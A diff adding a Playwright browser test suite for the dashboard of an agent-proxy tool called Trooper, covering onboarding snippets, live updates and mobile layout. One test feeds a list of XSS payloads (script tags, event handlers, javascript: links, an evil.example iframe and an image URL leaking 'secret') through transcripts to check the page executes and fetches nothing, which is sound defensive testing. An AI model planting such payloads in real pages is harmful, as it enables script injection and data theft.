@@ -1,0 +1,183 @@
+"""The /dashboard page in headless Chromium against a real Trooper fed through its Anthropic front door."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any, Iterator
+from urllib.parse import urlsplit
+
+import httpx
+import pytest
+from playwright.sync_api import Page, expect, sync_playwright
+
+from tests.fakes.behaviours import reply_text
+
+pytestmark = pytest.mark.browser
+
+CHROMIUM = "/usr/bin/chromium"
+CHROMIUM_ARGS = [
+    "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
+    "--disable-sync", "--no-first-run",
+]
+SCREENSHOTS = Path(__file__).resolve().parents[2] / "docs" / "img"
+#: "Live within a second": the feed pushes at once; this margin only absorbs a slow CI machine.
+LIVE_TIMEOUT_MS = 2_000
+
+
+class Watched:
+    """A page plus what it did that it must not: dialogs, script errors, requests off this host."""
+
+    def __init__(self, page: Page) -> None:
+        self.page = page
+        self.dialogs: list[str] = []
+        self.errors: list[str] = []
+        self.remote_requests: list[str] = []
+        page.on("dialog", self._dialog)
+        page.on("pageerror", lambda error: self.errors.append(str(error)))
+        page.on("request", self._request)
+
+    def _dialog(self, dialog) -> None:  # type: ignore[no-untyped-def]
+        self.dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    def _request(self, request) -> None:  # type: ignore[no-untyped-def]
+        host = urlsplit(request.url).hostname
+        if host not in ("127.0.0.1", None):
+            self.remote_requests.append(request.url)
+
+
+@pytest.fixture
+def browser() -> Iterator:
+    with sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
+        yield chromium
+        chromium.close()
+
+
+@pytest.fixture
+def watched(browser) -> Iterator[Watched]:  # type: ignore[no-untyped-def]
+    context = browser.new_context(viewport={"width": 1360, "height": 900})
+    yield Watched(context.new_page())
+    context.close()
+
+
+@pytest.fixture
+def trooper(fake_ollama, make_trooper):  # type: ignore[no-untyped-def]
+    return make_trooper(FALLBACK_URL=fake_ollama.api_chat_url)
+
+
+def agent_turn(base_url: str, session_id: str, messages: list[dict[str, Any]], **extra: Any) -> None:
+    """One turn of an agent through the Anthropic front door, as an SDK would send it."""
+    response = httpx.post(
+        f"{base_url}/v1/messages",
+        json={"model": "claude-haiku-4-5", "max_tokens": 256, "messages": messages, **extra},
+        headers={"x-api-key": "local", "anthropic-version": "2023-06-01", "X-Session-ID": session_id},
+        timeout=20,
+    )
+    assert response.status_code == 200, response.text
+
+
+def test_empty_dashboard_tells_a_new_user_where_to_point_their_agent(trooper, watched) -> None:  # type: ignore[no-untyped-def]
+    page = watched.page
+    page.goto(f"{trooper.url}/dashboard")
+    welcome = page.locator("#welcome")
+    expect(welcome).to_contain_text(f"Point your agent at {trooper.url}")
+    expect(page.locator("#snippet-anthropic")).to_have_text(
+        f'from anthropic import Anthropic\nclient = Anthropic(base_url="{trooper.url}")'
+    )
+    expect(page.locator("#snippet-openai")).to_contain_text(f'base_url="{trooper.url}/v1"')
+    expect(page.locator("#live-status")).to_have_text("Live")
+    page.screenshot(path=str(SCREENSHOTS / "dashboard-empty.png"))
+    assert not watched.errors
+
+
+def test_a_new_turn_and_an_open_loop_appear_live_without_a_reload(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
+    page = watched.page
+    page.goto(f"{trooper.url}/dashboard")
+    expect(page.locator("#live-status")).to_have_text("Live")
+    page.evaluate("window.__sameDocument = true")
+
+    first_question = {"role": "user", "content": "Add retries to the payments client in billing-api."}
+    first_answer = "Wrap `charge()` in a retry loop with **exponential backoff**."
+    fake_ollama.enqueue(reply_text(first_answer))
+    agent_turn(trooper.url, "agent-live", [first_question])
+
+    item = page.locator(".session-item[data-session-id='agent-live']")
+    expect(item).to_be_visible(timeout=LIVE_TIMEOUT_MS)
+    item.click()
+    expect(page.locator("#transcript .turn")).to_have_count(2, timeout=LIVE_TIMEOUT_MS)
+    expect(page.locator("#transcript .turn-assistant strong")).to_have_text("exponential backoff")
+    expect(page.locator("#transcript .turn-assistant .provider-tag")).to_contain_text("ollama")
+
+    fake_ollama.enqueue(reply_text("I will look at the checkout test next."))
+    agent_turn(trooper.url, "agent-live", [
+        first_question,
+        {"role": "assistant", "content": first_answer},
+        {"role": "user", "content": "The checkout test still fails on CI."},
+    ])
+    expect(page.locator("#transcript .turn")).to_have_count(4, timeout=LIVE_TIMEOUT_MS)
+    expect(page.locator("#sitrep .open-loops li").first).to_contain_text("still fails on CI", timeout=LIVE_TIMEOUT_MS)
+    expect(page.locator("#detail-providers")).to_contain_text("ollama")
+    assert page.evaluate("window.__sameDocument") is True, "the page reloaded"
+    page.screenshot(path=str(SCREENSHOTS / "dashboard-session.png"), full_page=True)
+    assert not watched.errors and not watched.dialogs
+
+
+XSS_TEXTS = [
+    "<script>alert('script')</script>",
+    "<img src=x onerror=alert('img')>",
+    "<svg onload=alert('svg')></svg>",
+    "<iframe src=http://evil.example/frame></iframe>",
+    "[click](javascript:alert('link')) [tab](jav&#x09;ascript:alert('tab'))",
+    "![leak](http://evil.example/collect?q=secret)",
+    "<a href=javascript:alert('raw')>raw</a> <div style='position:fixed;inset:0'>cover</div>",
+]
+
+
+def test_hostile_transcript_executes_nothing(trooper, fake_ollama, watched) -> None:  # type: ignore[no-untyped-def]
+    hostile = "\n\n".join(XSS_TEXTS)
+    fake_ollama.enqueue(reply_text("Answer: " + hostile))
+    agent_turn(trooper.url, "agent-xss", [
+        {"role": "user", "content": hostile},
+        {"role": "assistant", "content": [
+            {"type": "text", "text": hostile},
+            {"type": "tool_use", "id": "toolu_01", "name": "search", "input": {"q": "<img src=x onerror=alert('input')>"}},
+        ]},
+        {"role": "user", "content": [
+            {"type": "tool_result", "tool_use_id": "toolu_01", "content": "<svg onload=alert('result')></svg>"},
+            {"type": "text", "text": "And now? <script>alert('again')</script>"},
+        ]},
+    ], tools=[{"name": "search", "description": "Search", "input_schema": {"type": "object"}}])
+
+    page = watched.page
+    page.goto(f"{trooper.url}/dashboard#agent-xss")
+    transcript = page.locator("#transcript")
+    expect(transcript.locator(".turn")).to_have_count(4, timeout=5_000)
+    expect(transcript).to_contain_text("[image removed: leak]")
+    expect(transcript.locator(".tool-use pre")).to_contain_text("<img src=x onerror=alert('input')>")
+    page.wait_for_timeout(500)  # let any (wrongly) inserted markup try to load or run
+
+    assert page.locator("#session-view img, #session-view script, #session-view svg, #session-view iframe").count() == 0
+    assert page.locator("[onerror], [onload], [style*='position']").count() == 0
+    hrefs = transcript.locator("a").evaluate_all("links => links.map(a => a.getAttribute('href'))")
+    assert all(href is None or href.startswith(("http://", "https://", "mailto:")) for href in hrefs)
+    assert watched.dialogs == []
+    assert watched.remote_requests == []
+    assert watched.errors == []
+
+
+def test_dashboard_on_a_phone_lists_then_opens_a_session(trooper, fake_ollama, browser) -> None:  # type: ignore[no-untyped-def]
+    fake_ollama.enqueue(reply_text("Done: the cache is warmed on start."))
+    agent_turn(trooper.url, "agent-phone", [{"role": "user", "content": "Warm the cache on start in the api service."}])
+    context = browser.new_context(viewport={"width": 390, "height": 800}, is_mobile=True, has_touch=True)
+    page = context.new_page()
+    page.goto(f"{trooper.url}/dashboard")
+    item = page.locator(".session-item[data-session-id='agent-phone']")
+    expect(item).to_be_visible()
+    page.screenshot(path=str(SCREENSHOTS / "dashboard-phone-list.png"))
+    item.click()
+    expect(page.locator("#transcript .turn")).to_have_count(2)
+    expect(page.locator(".sessions")).to_be_hidden()
+    page.get_by_role("button", name="← Sessions").click()
+    expect(item).to_be_visible()
+    context.close()
